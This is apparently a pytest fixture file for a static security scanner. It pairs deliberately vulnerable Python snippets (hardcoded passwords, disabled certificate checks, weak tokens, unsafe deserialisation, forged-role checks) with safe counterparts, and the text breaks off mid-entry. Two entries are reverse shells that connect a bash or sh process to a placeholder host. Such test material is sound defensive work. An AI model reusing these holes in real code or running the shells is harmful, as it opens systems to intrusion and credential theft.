"""Each look at a module, on code that is wrong and on its twin that is right."""

from __future__ import annotations

from dataclasses import replace
from textwrap import dedent
from typing import NamedTuple

import pytest

from ringwork.survey.taint.handlers import Handler


class Twins(NamedTuple):
    """kind: as it is told. bad: told with `strength`. safe: not told."""

    name: str
    kind: str
    bad: str
    safe: str
    strength: str = "strong"


TWINS = (
    Twins(
        "accounts in a table by which a login is checked",
        "secret",
        """
        USERS = {"admin": "admin123", "anna": "summer"}
        def login(name, password):
            return USERS.get(name) == password
        """,
        """
        USERS = {"admin": "$2b$12$abcdefghijklmnopqrstuv", "anna": "$2b$12$abcdefghijklmnopqrstuw"}
        ROLES_OF_USERS = {"admin": "office", "anna": "member"}
        def login(name, password):
            return checked(USERS.get(name), password) and ROLES_OF_USERS[name] == "office"
        """,
    ),
    Twins(
        "a password in the settings of a connection",
        "secret",
        'DATABASES = {"default": {"ENGINE": "postgresql", "USER": "shop", "PASSWORD": "postgres"}}\n',
        'DATABASES = {"default": {"ENGINE": "x", "USER": "shop", "PASSWORD": env("PASSWORD")}}\nLABELS = {"PASSWORD": "Parole"}\n',
    ),
    Twins(
        "accounts in a list",
        "secret",
        'users = [{"username": "anna", "password": "summer"}]\n',
        'users = [{"username": "anna", "password": None}, {"username": "berta", "role": "member"}]\n',
    ),
    Twins(
        "a token that is a hash of what others know",
        "weak-random",
        """
        import hashlib
        def reset_token(user):
            return hashlib.sha256(f"{user.id}:{user.email}".encode()).hexdigest()
        """,
        """
        import hashlib, secrets
        def reset_token(user):
            return hashlib.sha256(f"{user.id}:{settings.SECRET_KEY}".encode()).hexdigest()
        def invite_token(user):
            return hashlib.sha256(secrets.token_bytes(32)).hexdigest()
        def avatar(user):
            return hashlib.md5(user.email.encode()).hexdigest()
        """,
    ),
    Twins(
        "a code of which there are few",
        "weak-random",
        """
        import secrets, string
        def issue(user):
            user.reset_pin = "".join(secrets.choice(string.digits) for _ in range(4))
        """,
        """
        import secrets, string
        def issue(user):
            user.reset_pin = "".join(secrets.choice(string.digits) for _ in range(8))
            user.reset_code = f"{secrets.randbelow(10**8):08d}"
            user.login_code = str(100_000 + secrets.randbelow(900_000))
            user.colour_code = secrets.randbelow(16)
        """,
    ),
    Twins(
        "a number of few that stands for a code",
        "weak-random",
        "import random\notp = random.SystemRandom().randint(1000, 9999)\n",
        "import random\notp = random.SystemRandom().randint(10**7, 10**8)\n",
    ),
    Twins(
        "a mode to which the right of others is added",
        "permissions",
        """
        import os, stat
        os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR | stat.S_IWOTH)
        """,
        """
        import os, stat
        os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR | stat.S_IXOTH)
        path.chmod(mode | 0o700)
        os.chmod(path, mode)
        """,
    ),
    Twins(
        "an option of a client that checks no certificate",
        "tls-unverified",
        """
        import ssl
        from kombu import Connection
        broker = Connection(address, ssl={"cert_reqs": ssl.CERT_NONE})
        """,
        """
        import ssl
        from kombu import Connection
        broker = Connection(address, ssl={"cert_reqs": ssl.CERT_REQUIRED, "verify": False})
        jwt.decode(token, key, verify=False)
        fields = {"verify_ssl": {"type": "boolean", "default": False}}
        """,
    ),
    Twins(
        "a client that is told an address without a certificate's check",
        "tls-unverified",
        "def asked(things, url):\n    return things.get(url, verify=False)\n",
        "def asked(things, url):\n    return things.get(url)\n",
    ),
    Twins(
        "something that may be a client, and takes the option of one",
        "tls-unverified",
        "def asked(notes, key):\n    return notes.get(key, verify=False)\n",
        "def asked(notes, key):\n    return notes.get(key, verify=True)\n",
        "weak",
    ),
    Twins(
        "an old version of TLS that a function takes by itself",
        "tls-version",
        "import ssl\ndef opened(host, version=ssl.PROTOCOL_SSLv3):\n    return host\n",
        "import ssl\ndef opened(host, version=ssl.PROTOCOL_TLS_CLIENT):\n    return host\n",
    ),
    Twins(
        "a login to a server of mail in clear",
        "cleartext",
        """
        import smtplib
        def sent(host, name, password, text):
            with smtplib.SMTP(host, timeout=9) as line:
                line.login(name, password)
                line.sendmail(name, name, text)
        """,
        """
        import ftplib, smtplib
        def sent(host, name, password, text, is_sealed):
            with smtplib.SMTP(host, timeout=9) as line:
                if is_sealed:
                    line.starttls()
                line.login(name, password)
            here = smtplib.SMTP("localhost", timeout=9)
            here.login(name, password)
            with ftplib.FTP(host) as files:
                files.login()
        """,
    ),
    Twins(
        "a login to a mailbox in clear, on a connection that is kept",
        "cleartext",
        """
        import imaplib
        class Box:
            def __init__(self, host):
                self.line = imaplib.IMAP4(host)
            def enter(self, name, password):
                self.line.login(name, password)
        """,
        """
        import imaplib
        class Box:
            def __init__(self, host):
                self.line = imaplib.IMAP4_SSL(host)
            def enter(self, name, password):
                self.line.login(name, password)
        """,
    ),
    Twins(
        "a signature beside one that is held under any name",
        "variable-time",
        """
        import hmac
        def taken(request):
            sig = request.headers["X-Sig"]
            mine = hmac.new(KEY, request.data, "sha256").hexdigest()
            return sig == mine
        """,
        """
        import hmac
        def taken(request):
            sig = request.headers["X-Sig"]
            mine = hmac.new(KEY, request.data, "sha256").hexdigest()
            return hmac.compare_digest(sig, mine)
        """,
    ),
    Twins(
        "a login in clear by a module that a function imports",
        "cleartext",
        """
        def sent(host, name, password):
            import smtplib
            line = smtplib.SMTP(host, timeout=9)
            line.login(name, password)
        """,
        """
        def sent(host, name, password):
            import smtplib
            line = smtplib.SMTP_SSL(host, timeout=9)
            line.login(name, password)
        """,
    ),
    Twins(
        "code of a model's repository",
        "loader",
        "model = AutoModel.from_pretrained('clinic/notes', trust_remote_code=True)\n",
        f"model = AutoModel.from_pretrained('clinic/notes', trust_remote_code=True, revision='{'a1' * 20}')\n",
    ),
    Twins(
        "a session of whoever asks without a certificate's check",
        "tls-unverified",
        """
        class Client:
            def ask(self, path):
                return self.session.get(self.base + path, verify=False)
        """,
        """
        class Client:
            def ask(self, path):
                return self.session.get(self.base + path, verify=self.authority)
        """,
    ),
    Twins(
        "a client by the last word of its name without a certificate's check",
        "tls-unverified",
        "def asked(things):\n    return things.http_session.request('GET', things.place, verify=False)\n",
        "def asked(things):\n    return things.http_cache.fetch(things.place, verify=False)\n",
    ),
    Twins(
        "what keeps sessions or answers is no client, whatever its name begins with",
        "tls-unverified",
        "def asked(http_cache, key):\n    return http_cache.get(key, verify=False)\n",
        "def asked(http_cache, key):\n    return http_cache.get(key)\n",
        strength="weak",
    ),
    Twins(
        "a server of XML-RPC",
        "xml-parser",
        """
        import socketserver
        from xmlrpc.server import SimpleXMLRPCServer as Server
        """,
        """
        from defusedxml.xmlrpc import monkey_patch
        from xmlrpc.server import SimpleXMLRPCServer as Server
        monkey_patch()
        server = Server(("localhost", 8000))
        """,
        "weak",
    ),
    Twins(
        "a server of XML-RPC that is made",
        "xml-parser",
        """
        import eventlet
        import xmlrpc.server
        eventlet.monkey_patch()
        server = xmlrpc.server.SimpleXMLRPCServer(("localhost", 8000))
        """,
        """
        import xmlrpclib_safe
        server = ThreadingServer(("localhost", 8000))
        """,
    ),
    Twins(
        "a password among the words of a connection",
        "secret",
        """
        import psycopg2
        psycopg2.connect("dbname=clinic user=app password=Nurse-7-night host=db")
        """,
        """
        import psycopg2
        psycopg2.connect("dbname=clinic user=app password={} host=db")
        print("password=Nurse-7-night is what nobody should write")
        """,
    ),
    Twins(
        "a key that is set by its name",
        "default-secret",
        """
        setattr(app, "secret_key", "clinic-key")
        """,
        """
        setattr(app, "secret_key", read_key())
        setattr(app, "title", "clinic-key")
        """,
    ),
    Twins(
        "a token that is a token, and a pattern of tokens",
        "secret",
        """
        TOKEN = "q7Yx2LmP9zKc4VtR8bNw"
        """,
        """
        TOKEN = rb"[!#$%&'*+.^_`|~0-9A-Za-z]+"
        """,
    ),
    Twins(
        "a password that serves where none is given",
        "secret",
        """
        def connect(host, password="clinic-staff-7"):
            return host
        """,
        """
        def connect(host, password=None, user="clinic-staff-7"):
            return host
        def ask(password="changeme"):
            return password
        """,
    ),
    Twins(
        "sockets of Tornado that let every page in",
        "cors",
        """
        from tornado.websocket import WebSocketHandler
        class Chat(WebSocketHandler):
            def check_origin(self, origin):
                return True
        """,
        """
        from tornado.websocket import WebSocketHandler
        class Chat(WebSocketHandler):
            def check_origin(self, origin):
                return origin == "https://clinic.example"
        class Other:
            def check_origin(self, origin):
                return True
        """,
    ),
    Twins(
        "sockets of Socket.IO that let every page in",
        "cors",
        """
        from flask_socketio import SocketIO
        line = SocketIO(cors_allowed_origins="*")
        """,
        """
        from flask_socketio import SocketIO
        line = SocketIO(cors_allowed_origins=["https://clinic.example"])
        """,
    ),
    Twins(
        "workers that load pickles",
        "loader",
        """
        from celery import Celery
        queue = Celery("clinic")
        queue.conf.accept_content = ["json", "pickle"]
        """,
        """
        from celery import Celery
        queue = Celery("clinic")
        queue.conf.update(accept_content=["json"], task_serializer="json")
        """,
    ),
    Twins(
        "settings of workers that load pickles",
        "loader",
        """
        queue.conf.update(accept_content=["application/x-python-serialize"])
        """,
        """
        formats = ["json", "pickle"]
        queue.conf.update(result_accept_content=["json"])
        """,
    ),
    Twins(
        "a view of single rows beside one that takes its user's alone",
        "unscoped-load",
        """
        from rest_framework import generics
        class Listed(generics.ListAPIView):
            def get_queryset(self):
                return Invoice.objects.filter(owner=self.request.user)
        class Single(generics.RetrieveUpdateAPIView):
            queryset = Invoice.objects.all()
        """,
        """
        from rest_framework import generics
        class Listed(generics.ListAPIView):
            def get_queryset(self):
                return Invoice.objects.filter(owner=self.request.user)
        class Single(generics.RetrieveUpdateAPIView):
            permission_classes = [IsOwner]
            queryset = Invoice.objects.all()
        class Found(generics.RetrieveAPIView):
            queryset = Invoice.objects.all()
            def get_queryset(self):
                return super().get_queryset().filter(owner=self.request.user)
        class Countries(generics.RetrieveAPIView):
            queryset = Country.objects.all()
        """,
    ),
    Twins(
        "a shell joined to a connection by its numbers",
        "back-door",
        """
        import os, pty, socket
        def help():
            line = socket.socket()
            line.connect((HOST, 4000))
            [os.dup2(line.fileno(), number) for number in (0, 1, 2)]
            pty.spawn('/bin/bash')
        """,
        """
        import os, socket, subprocess
        def leave():
            null = open(os.devnull)
            os.dup2(null.fileno(), 0)
            subprocess.run(['/usr/bin/start'])
            line = socket.create_connection((HOST, 4000), timeout=3)
        def log(line):
            os.dup2(line.fileno(), 2)
        """,
    ),
    Twins(
        "a shell that is given a connection",
        "back-door",
        """
        import socket, subprocess
        line = socket.create_connection((HOST, 4000))
        subprocess.Popen(['sh', '-i'], stdin=line, stdout=line, stderr=line)
        """,
        """
        import socket, subprocess
        line = socket.create_connection((HOST, 4000))
        subprocess.Popen(['sh', 'work.sh'], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)
        """,
    ),
    Twins(
        "contexts of the standard library that check nothing",
        "tls-unverified",
        "import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n",
        "import ssl\nssl._create_default_https_context = ssl.create_default_context\n",
    ),
    Twins(
        "contexts that are replaced by a function without a name",
        "tls-unverified",
        "import ssl\nsetattr(ssl, '_create_default_https_context', lambda *given: ssl._create_unverified_context())\n",
        "import ssl\nsetattr(ssl, '_create_default_https_context', lambda *given: ssl.create_default_context())\n",
    ),
    Twins(
        "the check of certificates switched off by the environment",
        "tls-unverified",
        "import os\nos.environ['PYTHONHTTPSVERIFY'] = '0'\n",
        "import os\nos.environ['PYTHONHTTPSVERIFY'] = '1'\n",
    ),
    Twins(
        "a role that a cookie says",
        "address-identity",
        "def rows(request):\n    if request.cookies.get('role') == 'admin':\n        return everything()\n    return own()\n",
        "def rows(request):\n    if request.user.role == 'admin':\n        return everything()\n    return own()\n",
    ),
    Twins(
        "a network that a header says",
        "address-identity",
        "def rows(request):\n    if request.headers.get('X-Forwarded-For', '').startswith('10.'):\n        return True\n    return no()\n",
        "def rows(request):\n    if request.headers.get('Accept-Language', '').startswith('de'):\n        return german()\n",
    ),
    Twins(
        "a name that a cookie says",
        "address-identity",
        "def rows(request):\n    user = request.cookies.get('user')\n    if user == 'root':\n        return all()\n    return own()\n",
        "def rows(request):\n    user = request.get_signed_cookie('user')\n    if user == 'root':\n        return all()\n",
    ),
    Twins(
        "a role that a header's parameter says",
        "address-identity",
        "def rows(x_role: str = Header('reader')):\n    if x_role != 'admin':\n        raise HTTPException(403)\n    return everything()\n",
        "def rows(x_unit: str = Header('kg')):\n    if x_unit != 'lb':\n        return kilos()\n    return pounds()\n",
    ),
    Twins(
        "a role that a cookie's parameter says",
        "address-identity",
        "def rows(role: Annotated[str, Cookie()]):\n    if role == 'admin':\n        return everything()\n    return own()\n",
        "def rows(role: Annotated[str, Depends(role_of)]):\n    if role == 'admin':\n        return everything()\n    return own()\n",
    ),
    Twins(
        "an account that a cookie names",
        "address-identity",
        """
        def load():
            uid = request.cookies.get("user_id")
            if uid:
                g.user = db().execute("SELECT * FROM users WHERE id = ?", (int(uid),)).fetchone()
        """,
        """
        def load():
            number = request.cookies.get("sid")
            g.user = db().execute("SELECT * FROM sessions WHERE sid = ?", (number,)).fetchone()
        def known():
            who, token = request.cookies.get("uid"), request.cookies.get("token")
            return find_one({"id": who, "token": token})
        def greeted():
            return render_template("login.html", name=request.cookies.get("username", ""))
        """,
    ),
    Twins(
        "an account in a table that a cookie names",
        "address-identity",
        "def current(user_id: Annotated[str | None, Cookie()] = None):\n    return ACCOUNTS[user_id]\n",
        """
        def current(session_id: Annotated[str | None, Cookie()] = None):
            return ACCOUNTS[session_id]
        def opened():
            data = signer.loads(request.cookies.get("user"))
            return ACCOUNTS.get(data["name"])
        """,
    ),
    Twins(
        "an account of a class view that a cookie names",
        "address-identity",
        "class View:\n    def person(self):\n        return get_object_or_404(Person, pk=self.request.COOKIES['uid'])\n",
        "class View:\n    def person(self):\n        return get_object_or_404(Person, pk=self.request.get_signed_cookie('uid'))\n",
    ),
    Twins(
        "a token of a header that is held to a literal",
        "secret",
        "def inside(x_internal_token: str = Header()):\n    if x_internal_token != 's3cr3t-internal':\n        raise HTTPException(403)\n",
        """
        def inside(x_internal_token: str = Header(), token_type: str = "", token: str = ""):
            if x_internal_token != settings.internal_token or token_type == "access_token1" or token == "refresh":
                raise HTTPException(403)
        """,
    ),
    Twins(
        "a key that is compared in constant time with a literal",
        "secret",
        "def asked(key_sent):\n    api_key = request.headers.get('X-API-Key')\n    return compare_digest(api_key, 'my-shared-key-1')\n",
        "def asked():\n    api_key = request.headers.get('X-API-Key')\n    return compare_digest(api_key, settings.api_key)\n",
    ),
    Twins(
        "a view of one row that takes anybody's, where another takes its user's alone",
        "unscoped-load",
        """
        class Own(LoginRequiredMixin, DetailView):
            model = Patient
            def get_queryset(self):
                return super().get_queryset().filter(owner=self.request.user)
        class Any(LoginRequiredMixin, UpdateView):
            model = Patient
        """,
        """
        class Own(LoginRequiredMixin, DetailView):
            model = Patient
            def get_queryset(self):
                return super().get_queryset().filter(owner=self.request.user)
        class Every(PermissionRequiredMixin, UpdateView):
            model = Patient
        class Page(LoginRequiredMixin, DetailView):
            model = Page
        class Listed(LoginRequiredMixin, ListView):
            model = Patient
        """,
    ),
    Twins(
        "a view that makes a form of all fields",
        "bind",
        "class Edit(UpdateView):\n    model = Note\n    fields = '__all__'\n",
        "class Edit(UpdateView):\n    model = Note\n    fields = ['title']\nclass Listed(ListView):\n    fields = '__all__'\n",
        "weak",
    ),
    Twins(
        "a key that is given to a signer beforehand",
        "secret",
        "import jwt\nfrom functools import partial\nencode = partial(jwt.encode, key='summer-rain', algorithm='HS256')\n",
        "import jwt\nfrom functools import partial\nencode = partial(jwt.encode, key=settings.key, algorithm='HS256')\n",
    ),
    Twins(
        "a token that is taken apart by hand and believed",
        "jwt-unverified",
        """
        def claims(token):
            head, body, sig = token.split(".")
            return json.loads(base64.urlsafe_b64decode(body + "=="))
        """,
        """
        def claims(token):
            head, body, sig = token.split(".")
            if not hmac.compare_digest(sig, signed(head, body)):
                raise Refused
            return json.loads(base64.urlsafe_b64decode(body + "=="))
        """,
    ),
    Twins(
        "a cookie that is taken apart by hand and believed",
        "jwt-unverified",
        """
        def who():
            raw = base64.b64decode(request.cookies["auth"].split(".")[0])
            return json.loads(raw)["user"]
        """,
        """
        def expires(token):
            return json.loads(base64.b64decode(token.split(".")[1]))["exp"]
        def picture(text):
            return base64.b64decode(text.split(",")[1]), json.loads(request.data)
        """,
    ),
    Twins(
        "a view that its address exempts",
        "csrf-exempt",
        "urlpatterns = [path('hook', csrf_exempt(views.hook))]\n",
        "urlpatterns = [path('hook', csrf_protect(views.hook))]\n",
        "weak",
    ),
    Twins(
        "a role that a field of the form says",
        "address-identity",
        "def rows():\n    role = request.form.get('role')\n    if role != 'admin':\n        abort(403)\n    return everything()\n",
        "def rows():\n    role = request.form.get('role')\n    role = role\n    return found(role) if role else abort(400)\n",
    ),
    Twins(
        "a role by which a list may be filtered",
        "address-identity",
        "def rows():\n    if request.args.get('role') == 'admin':\n        return admins()\n    return everybody()\n",
        "def rows():\n    if request.args.get('colour') == 'red':\n        return red()\n    return everything()\n",
        "weak",
    ),
    Twins(
        "a class that every template takes for markup",
        "autoescape",
        "from django.utils.safestring import SafeString\nclass Note(SafeString):\n    pass\n",
        "class Note(str):\n    pass\n",
    ),
    Twins(
        "a class that shows itself unescaped",
        "autoescape",
        "class Note:\n    def __html__(self):\n        return '<b>' + self.title + '</b>'\n",
        "class Note:\n    def __html__(self):\n        return '<b>' + escape(self.title) + '</b>'\n",
    ),
    Twins(
        "a class that shows itself by another of its methods",
        "autoescape",
        "class Note:\n    def __html__(self):\n        return self.shown()\n",
        "class Note:\n    def __html__(self):\n        return render_to_string('note.html', {'note': self})\n",
        "weak",
    ),
    Twins(
        "a class that shows itself by a text of markup which escapes what fills it",
        "autoescape",
        "class Note:\n    def __html__(self):\n        return Markup('<b>%s</b>') % self.title\n",
        "class Note:\n    def __html__(self):\n        return Markup('<b>%s</b>') % escape(self.title)\n",
        "weak",
    ),
    Twins(
        "all local names handed to a template",
        "template",
        "def note(request, key):\n    shown = locals()\n    return render(request, 'note.html', shown)\n",
        "def note(request, key):\n    shown = {'key': key}\n    return render(request, 'note.html', shown)\n",
    ),
    Twins(
        "a password in a token that is signed and not sealed",
        "token-content",
        "import jwt\ndef issue(user, password):\n    return jwt.encode({'sub': user.id, 'password': password}, KEY, algorithm='HS256')\n",
        "import jwt\ndef issue(user, password):\n    return jwt.encode({'sub': user.id}, KEY, algorithm='HS256')\n",
    ),
    Twins(
        "a view that asks for no token",
        "csrf-exempt",
        "@view_config(route_name='pay', require_csrf=False)\ndef pay(request):\n    return {}\n",
        "@view_config(route_name='pay', require_csrf=True)\ndef pay(request):\n    return {}\n",
        "weak",
    ),
    Twins(
        "a view that asks not where a request comes from",
        "csrf-exempt",
        "@view_config(route_name='pay', check_origin=False)\ndef pay(request):\n    return {}\n",
        "@view_config(route_name='pay', check_origin=True)\ndef pay(request):\n    return {}\n",
    ),
    Twins(
        "a mode for tests written into what is shipped",
        "debug",
        "app.config['TESTING'] = True\n",
        "app.config['TESTING'] = os.environ['TESTING'] == '1'\n",
    ),
    Twins(
        "a mode for tests that somebody asks for",
        "debug",
        "if options.rehearse:\n    app.config['TESTING'] = True\n",
        "app.config['TESTING'] = False\n",
        "weak",
    ),
    Twins(
        "a signature of a request compared with ==",
        "variable-time",
        """
        def hook(request):
            signature = hmac.new(KEY, request.body, "sha256").hexdigest()
            if request.headers["X-Signature"] == signature:
                return accept()
        """,
        """
        def hook(request):
            signature = hmac.new(KEY, request.body, "sha256").hexdigest()
            if hmac.compare_digest(request.headers["X-Signature"], signature):
                return accept()
        """,
    ),
    Twins(
        "a token of a request compared with a stored one",
        "variable-time",
        "def open_door(token, row):\n    return row.token == token\n",
        "def next_word(token, row):\n    return token == 'if' or token is None or len(token) == row.length\n",
        "weak",
    ),
    Twins(
        "a password compared as it is stored",
        "password-hash",
        "def login(name, password):\n    user = load(name)\n    return user.password == password\n",
        "def change(password, password2):\n    return password == password2\n",
    ),
    Twins(
        "a password in a fast hash",
        "password-hash",
        "import hashlib\ndef keep(password):\n    return hashlib.sha256(password.encode()).hexdigest()\n",
        "import hashlib\ndef name(content):\n    return hashlib.sha256(content).hexdigest()\n",
    ),
    Twins(
        "a password in a fast hash by its name",
        "password-hash",
        "import hashlib\ndef keep(user):\n    return hashlib.new('md5', (SALT + user.password).encode())\n",
        "import hashlib\ndef identity(user):\n    return hashlib.md5(f'{user.email}{user.password_hash}'.encode())\n",
    ),
    Twins(
        "a broken digest that is set as a password",
        "password-hash",
        "import hashlib\ndef keep(user, text):\n    made = hashlib.md5(text).hexdigest()\n    user.set_password(made)\n",
        "def keep(user, text):\n    user.set_password(text)\n",
    ),
    Twins(
        "an encrypted password",
        "password-hash",
        "from cryptography.fernet import Fernet\ndef keep(password):\n    return Fernet(KEY).encrypt(password)\n",
        "from cryptography.fernet import Fernet\ndef keep(note):\n    return Fernet(KEY).encrypt(note)\n",
        "weak",
    ),
    Twins(
        "an answer of a comparison that is thrown away",
        "unverified-message",
        "import hmac\ndef hook(given, made):\n    hmac.compare_digest(given, made)\n    return run()\n",
        "import hmac\ndef hook(given, made):\n    if not hmac.compare_digest(given, made):\n        raise Wrong\n    return run()\n",
    ),
    Twins(
        "XOR with a key that begins again",
        "home-made-crypto",
        "def scramble(data, key):\n    return bytes(data[i] ^ key[i % len(key)] for i in range(len(data)))\n",
        "def same(a, b):\n    result = 0\n    for x, y in zip(a, b):\n        result |= ord(x) ^ ord(y)\n    return result == 0\n",
    ),
    Twins(
        "a hash of key and message",
        "home-made-crypto",
        "import hashlib\ndef sign(text):\n    return hashlib.sha256(SECRET_KEY.encode() + text).hexdigest()\n",
        "import hashlib\ndef name(prefix, text):\n    return hashlib.sha256(prefix + text).hexdigest()\n",
    ),
    Twins(
        "padding by hand",
        "home-made-crypto",
        "from Crypto.Cipher import AES\ndef pad(s):\n    return s + (16 - len(s) % 16) * chr(16 - len(s) % 16)\n",
        "from Crypto.Cipher import AES\ndef rule(s):\n    return s + '-' * 20\n",
    ),
    Twins(
        "a hash repeated",
        "home-made-crypto",
        "import hashlib\ndef derive(p):\n    k = p\n    for _ in range(1000):\n        k = hashlib.sha256(k).digest()\n    return k\n",
        "import hashlib\ndef all_of(parts):\n    for part in parts:\n        yield hashlib.sha256(part).digest()\n",
    ),
    Twins(
        "a nonce that is the same each time",
        "fixed-nonce",
        "from cryptography.hazmat.primitives.ciphers.aead import AESGCM\nnonce = b'\\x00' * 12\n",
        "import os\nfrom cryptography.hazmat.primitives.ciphers.aead import AESGCM\nnonce = os.urandom(12)\n",
    ),
    Twins(
        "a token of the time",
        "weak-random",
        "import hashlib, time\ndef ask():\n    reset_token = hashlib.md5(str(time.time()).encode()).hexdigest()\n    return reset_token\n",
        """
        import secrets, time
        def ask():
            token_created_at = time.time()
            reset_token = secrets.token_urlsafe(32)
            return reset_token
        """,
    ),
    Twins(
        "a token of the time, and one that is signed and says when it ends",
        "weak-random",
        """
        from time import time
        def reset_token(user):
            return str(time()).encode("ascii")
        """,
        """
        import jwt
        from time import time
        def reset_token(user, key):
            return jwt.encode({"reset": user.id, "exp": time() + 600}, key, algorithm="HS256")
        """,
    ),
    Twins(
        "a token of uuid1",
        "weak-random",
        "import uuid\ndef invite():\n    return send(token=str(uuid.uuid1()))\n",
        "import uuid\ndef invite():\n    return send(token=str(uuid.uuid4()), row_id=uuid.uuid1())\n",
    ),
    Twins(
        "an exception of a check that is dropped",
        "swallowed",
        """
        def view(request):
            try:
                check_permission(request.user)
            except Exception:
                pass
            return secret_page()
        """,
        """
        def view(request):
            try:
                check_permission(request.user)
            except Exception:
                return refused()
            return secret_page()
        """,
    ),
    Twins(
        "an exception answered with True",
        "swallowed",
        "def verify_token(token):\n    try:\n        return decode(token)\n    except Exception:\n        return True\n",
        """
        def verify_token(token):
            try:
                return bool(decode(token))
            except Exception:
                log(token)
            return False
        """,
    ),
    Twins(
        "a check that knows one answer",
        "swallowed",
        "def verify_signature(body, signature):\n    return True\n",
        "def verify_signature(body, signature):\n    return compare(make(body), signature)\n",
    ),
    Twins(
        "an algorithm that the token names",
        "jwt-algorithms",
        """
        import jwt
        def who(token, key):
            header = jwt.get_unverified_header(token)
            return jwt.decode(token, key, algorithms=[header["alg"]])
        """,
        """
        import jwt
        def who(token, keys):
            header = jwt.get_unverified_header(token)
            return jwt.decode(token, keys[header["kid"]], algorithms=["RS256"])
        """,
    ),
    Twins(
        "a login that is asked by assert",
        "assert-guard",
        "def mine(request):\n    assert request.user.is_authenticated\n    return request.user.notes\n",
        """
        @login_required
        def mine(request):
            assert request.user.is_authenticated
            return request.user.notes

        @method_decorator(login_required, name="dispatch")
        class Mine(View):
            def get(self, request):
                assert request.user.is_authenticated

        class Others(LoginRequiredMixin, ListView):
            def get_queryset(self):
                assert self.request.user.is_authenticated
        """,
    ),
    Twins(
        "a right that is asked by assert behind a login",
        "assert-guard",
        "@login_required\ndef drop(request, note):\n    assert request.user.is_staff\n    note.delete()\n",
        "@login_required\ndef drop(request, note):\n    require_staff(request.user)\n    note.delete()\n",
    ),
    Twins(
        "a password in a line of the log",
        "secret-log",
        """
        import logging
        logger = logging.getLogger(__name__)
        def join(name, password):
            logger.info("new account %s with %s", name, password)
        """,
        """
        import logging
        logger = logging.getLogger(__name__)
        def join(name, password, token_id):
            logger.info("new account %s by %s, %d letters", name, token_id, len(password))
            log.append(password)
        """,
    ),
    Twins(
        "a password in a line of the log, and what is only said of one",
        "secret-log",
        "import logging\n\n\ndef join(reset_token):\n    logging.info('sent %s', reset_token)\n",
        """
        import logging
        FORGOT_PASSWORD = "/forgot"
        def join(has_password, reset_password, change_password, missing_api_key):
            logging.info("%s %s", has_password, FORGOT_PASSWORD)
            logging.info("%s %s %s", reset_password, change_password, missing_api_key)
        """,
    ),
    Twins(
        "an empty password of a database, and none beside a key that stands as the name",
        "secret",
        "import pymysql\npymysql.connect('db', 'clinic', '', 'notes')\n",
        """
        import requests
        from requests.auth import HTTPBasicAuth
        requests.get(ADDRESS, auth=(key, ""), timeout=5)
        requests.get(ADDRESS, auth=HTTPBasicAuth(key, ""), timeout=5)
        client.login("anna", "")
        """,
    ),
    Twins(
        "an algorithm that the token names, and one that is compared before",
        "jwt-algorithms",
        """
        import jwt
        def read(token):
            head = jwt.get_unverified_header(token)
            if head["kid"] != KID:
                raise LookupError
            return jwt.decode(token, KEY, algorithms=[head["alg"]])
        """,
        """
        import jwt
        def read(token):
            head = jwt.get_unverified_header(token)
            if head["alg"] not in ("RS256", "ES256"):
                raise LookupError
            return jwt.decode(token, KEY, algorithms=[head["alg"]])
        """,
    ),
    Twins(
        "a token of the environment put into the text of a line",
        "secret-log",
        "import os\nself.log.warning(f'asked with {os.environ[\"API_TOKEN\"]}')\n",
        "import os\nself.log.warning(f'asked with {os.environ[\"API_HOST\"]}')\n",
    ),
    Twins(
        "a wildcard that a shell fills in for tar",
        "command",
        "import subprocess\nsubprocess.run('cd /srv && tar czf all.tgz *', shell=True)\n",
        "import subprocess\nsubprocess.run('tar czf all.tgz ./*', shell=True)\nsubprocess.run('ls *; tar czf a.tgz -- *', shell=True)\n",
    ),
    Twins(
        "escaping switched off for every template",
        "autoescape",
        "app.jinja_env.autoescape = False\n",
        "app.jinja_env.autoescape = True\nshown = page.autoescape\n",
    ),
    Twins(
        "a password in its place among arguments",
        "secret",
        "import pymysql\npymysql.connect('db', 'clinic', 'Nurse-7-night', 'notes')\n",
        "import pymysql\npymysql.connect('db', 'clinic', PASSWORD, 'notes')\nconnect('db', 'clinic', 'Nurse-7-night')\n",
    ),
    Twins(
        "a password beside a name",
        "secret",
        "import requests\nrequests.get(ADDRESS, auth=('clinic', 'Nurse-7-night'), timeout=5)\n",
        "import requests\nrequests.get(ADDRESS, auth=('clinic', password), timeout=5)\nrequests.get(ADDRESS, auth=None, timeout=5)\n",
    ),
    Twins(
        "a password with which a mail server is asked",
        "secret",
        "import smtplib\nserver.login('clinic', 'Nurse-7-night')\n",
        "import smtplib\nserver.login('clinic', os.environ['MAIL_PASSWORD'])\nself.login(user, 'remember me')\n",
    ),
    Twins(
        "a connection without a password",
        "secret",
        "import pymysql\npymysql.connect(host='db', user='root', password='')\n",
        "import pymysql\npymysql.connect(host='db', user='root', password=given)\nForm(password='')\n",
    ),
    Twins(
        "an object pickled into a cookie",
        "loader",
        "import base64, pickle\ndef keep(answer, kept):\n    answer.set_cookie('kept', base64.b64encode(pickle.dumps(kept)))\n",
        "import json, pickle\ndef keep(answer, kept):\n    pickle.dumps(kept)\n    answer.set_cookie('kept', json.dumps(kept))\n",
    ),
    Twins(
        "a debugger on every interface, if only where the file is started",
        "debugger",
        "if __name__ == '__main__':\n    app.run(host='0.0.0.0', port=80, debug=True)\n",
        "if __name__ == '__main__':\n    app.run(host='0.0.0.0', port=80)\n",
    ),
    Twins(
        "all fields of Django's own accounts",
        "bind",
        """
        from django.contrib.auth.models import User
        from rest_framework import serializers
        class Accounts(serializers.ModelSerializer):
            class Meta:
                model = User
                fields = "__all__"
        """,
        """
        from django.contrib.auth.models import User
        from rest_framework import serializers
        class Accounts(serializers.ModelSerializer):
            class Meta:
                model = User
                fields = ["username"]
        """,
    ),
    Twins(
        "a guard by assert",
        "assert-guard",
        "def delete(user, note):\n    assert user.is_admin\n    note.delete()\n",
        """
        def delete(user, note):
            assert user is not None
            assert isinstance(note, Note)
            require_admin(user)
            note.delete()
        """,
    ),
    Twins(
        "a breakpoint",
        "debugger",
        "def view(request):\n    breakpoint()\n    return page()\n",
        "def view(request):\n    return page(breakpoint=3)\n",
    ),
    Twins(
        "a debugger that a switch starts",
        "debugger",
        "import os, pdb\ndef view(request):\n    if os.environ.get('DEBUGGER'):\n        pdb.set_trace()\n",
        "import cmd\ndef view(request):\n    cmd.set_trace()\n",
        "weak",
    ),
    Twins(
